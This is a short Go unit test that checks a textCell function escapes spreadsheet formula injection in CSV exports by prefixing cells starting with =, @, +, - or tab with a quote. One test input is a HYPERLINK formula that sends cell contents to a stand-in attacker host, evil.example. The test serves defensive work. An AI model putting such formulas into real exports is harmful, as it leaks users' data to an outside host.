package dossier

import "testing"

func TestWriteReportCSV_FormulasStayText(t *testing.T) {
	tests := map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"x")`: `'=HYPERLINK("http://evil.example/?"&A1,"x")`,
		"@SUM(A1:A9)": "'@SUM(A1:A9)",
		"+7 912 345":  "'+7 912 345",
		"-2+3":        "'-2+3",
		"\tcmd":       "'\tcmd",
		"Иванов":      "Иванов",
		"a=b":         "a=b",
		"":            "",
	}
	for in, want := range tests {
		if got := textCell(in); got != want {
			t.Errorf("textCell(%q) = %q, want %q", in, got, want)
		}
	}
}
